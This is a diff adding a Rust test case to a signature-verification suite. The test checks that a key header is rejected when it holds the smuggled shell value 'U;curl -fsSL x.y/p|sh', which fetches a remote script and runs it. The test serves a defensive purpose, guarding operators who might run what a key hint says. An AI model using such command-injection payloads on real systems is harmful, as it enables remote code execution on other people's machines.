@@ -103,6 +103,13 @@ fn a_signature_verifies_only_for_the_trusted_sender_content_and_subjects() {
         trusted.verify("central", h, scope(), payload),
         Err(Unverified::UnknownSender { .. })
     ));
+    // Only a key is quoted as one to trust: an operator is told to run what the hint says.
+    let mut not_a_key = sealed.headers.clone();
+    not_a_key.insert(crate::keys::KEY, "U;curl -fsSL x.y/p|sh");
+    match trusted.verify("central", Some(&not_a_key), scope(), payload) {
+        Err(Unverified::Bad(e)) => assert!(e.contains("not a node's public key"), "{e}"),
+        other => panic!("{other:?}"),
+    }
     trust(dir.path(), "central", central.public_key()).unwrap();
     let signed = trusted.verify("central", h, scope(), payload).unwrap();
     assert_eq!(signed.sig, sealed.sig);
